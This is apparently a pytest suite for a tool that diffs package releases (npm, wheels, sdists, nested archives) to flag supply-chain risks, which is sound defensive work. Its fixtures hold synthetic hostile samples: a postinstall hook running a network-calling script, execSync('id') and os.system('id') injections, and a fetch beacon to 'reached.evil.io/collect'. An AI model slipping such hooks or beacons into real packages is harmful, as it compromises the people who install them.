"""End to end on release pairs built by code (npm tarballs, wheels, sdists, nested zips)."""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path

import pytest
from pkgbuild import metadata, npm_tarball, package_json, wheel

from builders import gzip_bytes, write, zip_bytes
from finalexam import diff
from finalexam.diffing.content import is_cosmetic
from finalexam.model import Severity

INDEX = """const path = require('path');
function join(first, second) {
  return path.join(first, second);
}
module.exports = { join };
"""
INDEX_REFACTORED = """const path = require('path');

// Join two parts.
function join(left,
              right) { return path.join(left, right) }
module.exports = { join };
"""


@pytest.fixture
def old_npm(tmp_path: Path) -> Path:
    return npm_tarball(
        tmp_path / "lib-1.2.0.tgz",
        {
            "package.json": package_json("1.2.0", dependencies={"path": "^0.12"}),
            "index.js": INDEX,
            "README.md": "# lib\n",
        },
    )


def test_refactor_only_release_is_not_flagged(old_npm: Path, tmp_path: Path) -> None:
    new = npm_tarball(
        tmp_path / "lib-1.3.0.tgz",
        {
            "package.json": package_json("1.3.0", dependencies={"path": "^0.12"}),
            "index.js": INDEX_REFACTORED,
            "README.md": "# lib\nSee https://docs.lib.dev/guide\n",
        },
        mtime=1_800_000_000,
    )
    result = diff(old_npm, new)
    assert result.risk == "none", [(c.kind, c.severity, c.title) for c in result.changes]
    assert result.stats["files_cosmetic"] == 1
    endpoint = next(c for c in result.changes if c.kind == "endpoint-added")
    assert endpoint.severity is Severity.INFO and endpoint.location == "README.md"


def test_protestware_style_patch_release_is_flagged(old_npm: Path, tmp_path: Path) -> None:
    payload = (
        "const fs = require('fs');\nconst https = require('https');\n"
        "https.get('https://api.geo-lookup.io/ipgeo?key=k', (r) => {\n"
        "  fs.writeFileSync('/tmp/x', '\\u2764');\n});\n"
    )
    new = npm_tarball(
        tmp_path / "lib-1.2.1.tgz",
        {
            "package.json": package_json(
                "1.2.1",
                dependencies={"path": "^0.12", "peace": "^1"},
                scripts={"postinstall": "node dao/geo.js"},
            ),
            "index.js": INDEX + "require('./dao/geo.js');\n",
            "dao/geo.js": payload,
            "README.md": "# lib\n",
        },
    )
    result = diff(old_npm, new)
    by_kind: dict[str, list[Severity]] = {}
    for change in result.changes:
        by_kind.setdefault(change.kind, []).append(change.severity)
    assert by_kind["install-hook-added"] == [Severity.HIGH]
    assert Severity.MEDIUM in by_kind["endpoint-added"]
    assert by_kind["dependency-added"] == [Severity.MEDIUM]
    categories = {
        c.evidence["category"] for c in result.changes if c.kind == "code-capability-added"
    }
    assert {"network-client", "file-write"} <= categories
    hook = next(c for c in result.changes if c.kind == "install-hook-added")
    assert hook.location == "package.json" and hook.evidence["script"] == "node dao/geo.js"
    assert result.risk == "high" and result.flagged
    assert result.changes[0].severity is Severity.HIGH  # ranked: most dangerous first


def test_changed_hook_script_file(tmp_path: Path) -> None:
    manifest = package_json("2.0.0", scripts={"install": "node build.js"})
    old = npm_tarball(
        tmp_path / "a/lib-2.0.0.tgz", {"package.json": manifest, "build.js": "console.log('ok')\n"}
    )
    new = npm_tarball(
        tmp_path / "b/lib-2.0.1.tgz",
        {
            "package.json": manifest.replace("2.0.0", "2.0.1"),
            "build.js": "console.log('ok')\nrequire('./x')\n",
        },
    )
    result = diff(old, new)
    change = next(c for c in result.changes if c.kind == "install-hook-script-changed")
    assert change.location == "build.js" and change.severity is Severity.MEDIUM


def test_same_version_different_code_in_nested_archive(tmp_path: Path) -> None:
    def build(code: str, where: Path) -> Path:
        jar = zip_bytes({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\n", "a/B.js": code})
        return write(where, zip_bytes({"lib/core.jar": jar, "app.py": "print(1)\n"}))

    old = build("var x = 1;\n", tmp_path / "a/tool-3.1.zip")
    new = build(
        "var x = 1;\nrequire('child_process').execSync('id');\n", tmp_path / "b/tool-3.1.zip"
    )
    result = diff(old, new)
    change = next(c for c in result.changes if c.kind == "version-unchanged-code-changed")
    assert change.location == "lib/core.jar!/a/B.js" and change.severity is Severity.HIGH
    assert any(
        c.kind == "code-capability-added" and c.evidence["line"] == 2 for c in result.changes
    )


def test_wheel_gains_executable_pth_and_moves_module(tmp_path: Path) -> None:
    old = wheel(
        tmp_path / "w-1.0-py3-none-any.whl",
        {"w/__init__.py": "X = 1\n", "w-1.0.dist-info/METADATA": metadata("w", "1.0")},
    )
    new = wheel(
        tmp_path / "w-1.1-py3-none-any.whl",
        {
            "w/core/__init__.py": "X = 1\n",
            "w_init.pth": "import os; os.system('id')\n",
            "w-1.1.dist-info/METADATA": metadata("w", "1.1", ["requests>=2"]),
        },
    )
    result = diff(old, new)
    kinds = {c.kind: c for c in result.changes}
    assert kinds["install-hook-added"].location == "w_init.pth"
    assert kinds["file-moved"].evidence["from"] == "w/__init__.py"
    assert kinds["dependency-added"].evidence["dependency"] == "requests"
    assert kinds["dependency-added"].severity is Severity.LOW  # a minor release


def test_sdist_top_directory_with_version_is_aligned(tmp_path: Path) -> None:
    def sdist(version: str, setup: str) -> Path:
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode="w") as archive:
            for name, text in {
                "setup.py": setup,
                "s/__init__.py": "pass\n",
                "PKG-INFO": metadata("s", version),
            }.items():
                raw = text.encode()
                info = tarfile.TarInfo(f"s-{version}/{name}")
                info.size = len(raw)
                archive.addfile(info, io.BytesIO(raw))
        return write(tmp_path / f"s-{version}.tar.gz", gzip_bytes(buffer.getvalue()))

    old = sdist("0.9.0", "from setuptools import setup\nsetup(name='s')\n")
    new = sdist(
        "0.9.1",
        "from setuptools import setup\nfrom x import Hook\n"
        "setup(name='s', cmdclass={'install': Hook})\n",
    )
    result = diff(old, new)
    assert result.stats["files_unchanged"] == 1  # s/__init__.py, despite s-0.9.0/ → s-0.9.1/
    hook = next(c for c in result.changes if c.kind == "install-hook-added")
    assert hook.location == "setup.py"


def test_native_binary_added_to_pure_package(tmp_path: Path) -> None:
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 120
    old = wheel(tmp_path / "n-1.0-py3-none-any.whl", {"n/__init__.py": "pass\n"})
    new = wheel(
        tmp_path / "n-1.0.1-py3-none-any.whl", {"n/__init__.py": "pass\n", "n/_speed.so": elf}
    )
    change = next(c for c in diff(old, new).changes if c.kind == "native-binary-added")
    assert change.severity is Severity.MEDIUM


def test_cosmetic_detection_keeps_real_changes() -> None:
    old = "import os\ndef f(a, b):\n    return os.path.join(a, b)\n"
    assert is_cosmetic(
        old, "import os\n\ndef f(x, y):  # doc\n    return os.path.join(x, y)\n", "m.py"
    )
    assert not is_cosmetic(old, "import os\ndef f(a, b):\n    return os.system(a)\n", "m.py")
    assert not is_cosmetic("eval(x)", "exec(x)", "m.py")  # free names are never renamed
    assert not is_cosmetic("s = 'a.com'", "s = 'b.com'", "m.py")
    assert is_cosmetic("var a = 1; // x", "var b=1;", "m.js")


def test_zip_and_tar_members_compare_by_content_not_metadata(tmp_path: Path) -> None:
    files = {"p/a.py": "A = 1\n", "p/b.py": "B = 2\n"}
    old = wheel(tmp_path / "p-1.0-py3-none-any.whl", files)
    new = wheel(
        tmp_path / "p-1.0.1-py3-none-any.whl",
        files,
        date_time=(2030, 1, 1, 0, 0, 0),
        order=["p/b.py", "p/a.py"],
        compression=zipfile.ZIP_STORED,
    )
    result = diff(old, new)
    assert result.risk == "none" and result.stats["files_unchanged"] == 2


@pytest.mark.parametrize(
    ("name", "version"),
    [
        ("rzip-0.9.2-x86_64-unknown-linux-gnu.tar.gz", "0.9.2"),
        ("ripgrep-14.1.0-x86_64-unknown-linux-musl.tar.gz", "14.1.0"),
        ("node-v18.17.0-linux-x64.tar.gz", "18.17.0"),
        ("tool-linux-amd64-1.2.3.tar.gz", "1.2.3"),
        ("requests-2.31.0-py3-none-any.whl", "2.31.0"),
        ("pkg-1.0.0rc1.tar.gz", "1.0.0rc1"),
    ],
)
def test_a_target_triple_in_a_release_name_is_not_its_version(name: str, version: str) -> None:
    """A Rust release named after its target triple read as version 64-unknown-linux-gnu, so
    the honest next build looked like "version unchanged, code changed": a false high."""
    from finalexam.diffing.engine import version_from_name

    assert version_from_name(name) == version


def test_endpoint_in_a_docs_or_tests_folder_that_shipped_code_requires_stays_medium(
    old_npm: Path, tmp_path: Path
) -> None:
    """The diff decides where code sits as the exam does: a folder name demotes a file only
    while nothing shipped imports it (``dist/doc/Document.js`` of the yaml package is code)."""
    beacon = "module.exports = () => fetch('https://{host}/collect');\n"
    new = npm_tarball(
        tmp_path / "lib-1.2.1.tgz",
        {
            "package.json": package_json("1.2.1", dependencies={"path": "^0.12"}),
            "index.js": INDEX + "require('./doc/Document.js');\n",
            "doc/Document.js": beacon.format(host="reached.evil.io"),
            "test/net.test.js": beacon.format(host="tests-only.evil.io"),
            "README.md": "# lib\n",
        },
    )
    severities = {
        c.evidence["host"]: c.severity
        for c in diff(old_npm, new).changes
        if c.kind == "endpoint-added"
    }
    assert severities == {"reached.evil.io": Severity.MEDIUM, "tests-only.evil.io": Severity.LOW}
